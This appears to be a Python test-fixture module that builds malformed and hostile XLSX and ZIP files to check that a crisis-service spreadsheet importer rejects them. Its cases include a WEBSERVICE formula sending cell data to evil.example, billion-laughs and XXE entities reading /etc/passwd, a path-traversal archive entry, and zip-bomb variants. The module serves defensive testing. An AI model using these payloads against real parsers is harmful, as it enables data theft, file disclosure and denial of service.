"""The same in XLSX, and in archives that say they are. See `corpus`."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable, Mapping, Sequence
from datetime import date, datetime
from io import BytesIO
from typing import Any

from openpyxl import Workbook
from openpyxl.worksheet.formula import ArrayFormula

from .corpus import Case, table

HEAD = ("service_name_en", "categories", "phone_crisis", "province", "age_min", "description_en")
GOOD = ("Line", "crisis.line", "807-555-0150", "ON", 18, "")
SHEET = "xl/worksheets/sheet1.xml"
XML = '<?xml version="1.0" encoding="UTF-8"?>'


def book(*rows: Sequence[Any], then: Callable[[Any], None] = lambda _book: None) -> bytes:
    """A workbook with the headings and these rows; `then` does to it what a spreadsheet would."""
    made = Workbook()
    for cells in (HEAD, *rows):
        made.active.append(cells)
    then(made)
    out = BytesIO()
    made.save(out)
    return out.getvalue()


def packed(parts: Mapping[str, str | bytes]) -> bytes:
    """An archive."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def with_parts(raw: bytes) -> dict[str, bytes]:
    """The parts of a workbook by name."""
    with zipfile.ZipFile(BytesIO(raw)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def other(parts: Mapping[str, str | bytes], raw: bytes | None = None) -> bytes:
    """A good workbook, some parts of it replaced or added."""
    return packed(with_parts(raw or book(GOOD)) | dict(parts))


def without(name: str) -> bytes:
    """A good workbook that lacks a part."""
    return packed({part: body for part, body in with_parts(book(GOOD)).items() if part != name})


def sheet(rows: str, before: str = "") -> str:
    """The XML of a sheet."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'{XML}{before}<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>'


def written(number: int, cells: Sequence[str]) -> str:
    """One row of a sheet in XML, its texts inside it."""
    inside = "".join(f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in cells)
    return f'<row r="{number}">{inside}</row>'


NAMED = written(1, HEAD)
LINE = written(2, [str(cell) for cell in GOOD])
ROW = written(2, ["x" * 90]).replace(' r="2"', "")
"""A row that leaves it to its reader to count."""
LAUGHS = "<!DOCTYPE a [" + "".join(
    f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' if n else '<!ENTITY l1 "ha">' for n in range(10)
) + "]>"  # fmt: skip
PASSWD = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def one_bad(name: str, words: str, *cells: Any, then: Callable[[Any], None] = lambda _book: None) -> Case:
    """A workbook whose third row is refused and whose second is not."""
    return Case(name, lambda: book(GOOD, cells, then=then), bad={3: words}, good=1)


def set_cell(where: str, value: Any) -> Callable[[Any], None]:
    """Write one cell more."""
    return lambda made: made.active.__setitem__(where, value)


def hide_first(made: Any) -> None:
    """Hide the sheet and put a good one behind it."""
    second = made.create_sheet("List")
    for cells in (HEAD, GOOD, GOOD):
        second.append(cells)
    made.active.sheet_state = "hidden"
    made.active = 1


def link_outside(made: Any) -> None:
    """A link to another file, and a picture of the web."""
    made.active["F2"].hyperlink = "file:///etc/passwd"


def formatted_down(made: Any) -> None:
    """Format the sheet to its end, as one does with a click on a column."""
    made.active.row_dimensions[900_000].height = 20
    made.active.cell(900_000, 1).number_format = "@"


def lying(raw: bytes) -> bytes:
    """The archive, its directory saying that every part holds ten bytes."""
    made, at = bytearray(raw), 0
    while (at := made.find(b"PK\x01\x02", at)) >= 0:
        made[at + 24 : at + 28] = struct.pack("<I", 10)
        at += 4
    return bytes(made)


def marked(raw: bytes, at: int, value: int) -> bytes:
    """The archive, a number of two bytes in the directory of every part set to something."""
    made, place = bytearray(raw), 0
    while (place := made.find(b"PK\x01\x02", place)) >= 0:
        made[place + at : place + at + 2] = struct.pack("<H", value)
        place += 4
    return bytes(made)


def shared(texts: int, cells: int, length: int) -> bytes:
    """A workbook whose cells all point to a few long texts."""
    strings = f"<si><t>{'x' * length}</t></si>" * texts
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    columns = "".join('<c t="s"><v>0</v></c>' for _n in range(cells))
    rows = NAMED + "".join(f'<row r="{n}">{columns}</row>' for n in range(2, 1_000))
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    kinds = with_parts(book(GOOD))["[Content_Types].xml"].decode()
    told = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>'
    return other(
        {
            "xl/sharedStrings.xml": f'{XML}<sst xmlns="{main}">{strings}</sst>',
            "[Content_Types].xml": kinds.replace("</Types>", told),
            SHEET: sheet(rows),
        }
    )


XLSX: Sequence[Case] = (
    Case("a workbook", lambda: book(GOOD), good=1),
    Case("texts inside the sheet", lambda: other({SHEET: sheet(NAMED + LINE)}), good=1),
    Case("a workbook in UTF-16", lambda: other(
        {SHEET: sheet(NAMED + LINE).replace("UTF-8", "UTF-16").encode("utf-16")}), good=1),
    one_bad("a formula", "holds a formula", "=1+1", *GOOD[1:]),
    one_bad("a formula that calls out", "holds a formula", '=WEBSERVICE("https://evil.example/"&A2)', *GOOD[1:]),
    one_bad("a formula for a whole column", "holds a formula", *GOOD,
            then=set_cell("A3", ArrayFormula("A3:A9", "=A2:A8"))),
    one_bad("the error of a formula", "holds a formula", "#REF!", *GOOD[1:]),
    one_bad("a row wider than its headings", "more or fewer cells", *GOOD, "x", "y"),
    one_bad("an age as a day", "age_min", "Line 2", *GOOD[1:4], date(2026, 1, 18)),
    one_bad("an age as a number with a point", "age_min", "Line 2", *GOOD[1:4], 18.5),
    one_bad("a number as a number that was rounded", "phone_crisis", "Line 2", "crisis.line", 1.80755501e20, "ON"),
    one_bad("yes and no for a province", "province", "Line 2", "crisis.line", "807-555-0150", True),
    one_bad("a cell of 30 kB", "description_en", "Line 2", *GOOD[1:5], "x" * 30_000),
    Case("an age as 18.0", lambda: book(("Line", *GOOD[1:4], 18.0, "")), good=1),
    Case("a number as a number", lambda: book(("Line", "crisis.line", 8075550150, "ON", "", "")), good=1),
    Case("a moment in a text", lambda: book((*GOOD[:5], datetime(2026, 1, 2, 3, 4))), good=1),
    Case("merged cells", lambda: book(GOOD, ("",) * 6, then=lambda made: made.active.merge_cells("A2:A3")), good=1),
    Case("headings merged over two columns", lambda: book(
        GOOD, then=lambda made: made.active.merge_cells("A1:B1")), whole="no heading"),
    Case("a heading twice", lambda: book(GOOD, then=set_cell("F1", "province")), whole="province twice"),
    Case("blank rows above", lambda: book(GOOD, then=lambda made: made.active.insert_rows(1, 3)), good=1),
    Case("a hidden sheet in front", lambda: book(then=hide_first), good=2),
    Case("nothing but a hidden sheet", lambda: other({"xl/workbook.xml": with_parts(book(GOOD))["xl/workbook.xml"]
         .replace(b'state="visible"', b'state="hidden"')}), whole="empty"),
    Case("an empty sheet", lambda: other({SHEET: sheet("")}), whole="empty"),
    Case("links to files", lambda: book(GOOD, then=link_outside), good=1),
    Case("links to another workbook", lambda: other({"xl/externalLinks/externalLink1.xml": f"{XML}<externalLink/>",
         "xl/externalLinks/_rels/externalLink1.xml.rels": f"{XML}<Relationships/>"}), good=1),
    Case("macros", lambda: other({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Sub Auto_Open()" * 99}), good=1),
    Case("a million blank rows", lambda: book(GOOD, then=formatted_down), whole="more than 1000 rows"),
    Case("a size of its own saying", lambda: other({SHEET: sheet(NAMED + LINE).replace(
         "<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')}), good=1),
    Case("a cell in the last column", lambda: book(GOOD, then=set_cell("XFD1", "last")), whole="columns"),
    Case("a cell below the last column", lambda: book(GOOD, then=set_cell("XFD2", "last")),
         bad={2: "more or fewer cells"}),
    Case("a cell in the last row", lambda: book(GOOD, then=set_cell("A1048576", "last")), whole="more than 1000 rows"),
    Case("a row of a number out of this world", lambda: other({SHEET: sheet(
         NAMED + LINE + written(99_999_999_999, GOOD[:1]))}), whole=" "),
    Case("a cell of a name out of this world", lambda: other({SHEET: sheet(
         NAMED + LINE.replace("<c ", '<c r="ZZZZZZ2" ', 1))}), whole="damaged"),
    Case("a text that is not there", lambda: other({SHEET: sheet(NAMED + '<row r="2"><c t="s"><v>9</v></c></row>')}),
         whole="damaged"),
    Case("a number of three hundred digits", lambda: other({SHEET: sheet(
         NAMED + LINE.replace('<c t="inlineStr"><is><t>18</t></is></c>', "<c><v>1e999</v></c>"))}),
         bad={2: "age_min"}),
    Case("a hundred million bytes of blanks", lambda: other({SHEET: sheet(NAMED + LINE) + " " * 110_000_000}),
         whole="too much once it is unpacked"),
    Case("ninety million bytes of rows", lambda: other({SHEET: sheet(NAMED + ROW * 600_000).replace(
         "<sheetData>", '<dimension ref="A1:F9"/><sheetData>')}), whole="more than 1000 rows"),
    Case("ninety million bytes of rows, and nothing said of them", lambda: other({SHEET: sheet(NAMED + ROW * 600_000)}),
         whole=" "),
    Case("ninety million bytes in a cell", lambda: other({SHEET: sheet(NAMED + written(2, ["x" * 90_000_000]))}),
         bad={2: "service_name_en is longer"}),
    Case("a thousand rows that share one long text", lambda: shared(1, 6, 19_000), whole="too long or too much memory"),
    Case("two million texts nobody uses", lambda: shared(2_000_000, 1, 5), whole="too long or too much memory"),
    Case("a directory that lies", lambda: lying(other({SHEET: sheet(NAMED + LINE) + " " * 50_000_000})),
         whole="damaged"),
    Case("a hundred thousand parts", lambda: other({f"xl/media/{n}": b"" for n in range(20_000)}),
         whole="too much once it is unpacked"),
    Case("laughs by the billion", lambda: other({SHEET: sheet(NAMED + written(2, ["&l10;"]), LAUGHS)}),
         whole="damaged"),
    Case("a file of the machine's", lambda: other({SHEET: sheet(NAMED + written(2, ["&x;"]), PASSWD)}),
         whole="damaged"),
    Case("a hundred thousand marks inside each other", lambda: other({SHEET: sheet(
         NAMED + "<row>" * 100_000 + "</row>" * 100_000)}), whole=" "),
    Case("marks that do not close", lambda: other({SHEET: sheet(NAMED + LINE)[:-40]}), whole="damaged"),
    Case("cut short", lambda: book(GOOD)[:-200], whole="damaged"),
    Case("noise within", lambda: book(GOOD)[:900] + b"\0" * 300 + book(GOOD)[1200:], whole="damaged"),
    Case("no sheet where one is named", lambda: without(SHEET), whole=" "),
    Case("no list of what is in it", lambda: without("[Content_Types].xml"), whole="no table of services"),
    Case("no book", lambda: without("xl/workbook.xml"), whole="damaged"),
    Case("locked with a password", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096), whole="password"),
    Case("parts that are locked", lambda: marked(book(GOOD), 8, 1), whole="password"),
    Case("parts packed in a way nobody knows", lambda: marked(book(GOOD), 10, 99), whole="damaged"),
    Case("a workbook in an archive", lambda: packed({"list.xlsx": book(GOOD)}), whole="no table of services"),
    Case("an empty archive", lambda: packed({}), whole="no table of services"),
    Case("names that lead elsewhere", lambda: packed({"../../../../etc/services.csv": "id,name\n1,Line\n"}),
         bad={1: "Kinds of help"}),
    Case("tables of HSDS that are our own", lambda: packed({"services.csv": table()}), whole="no table of services"),
    Case("tables of HSDS that are no text", lambda: packed({"services.csv": b"\xff\xfe\xff"}), whole="services.csv"),
)  # fmt: skip
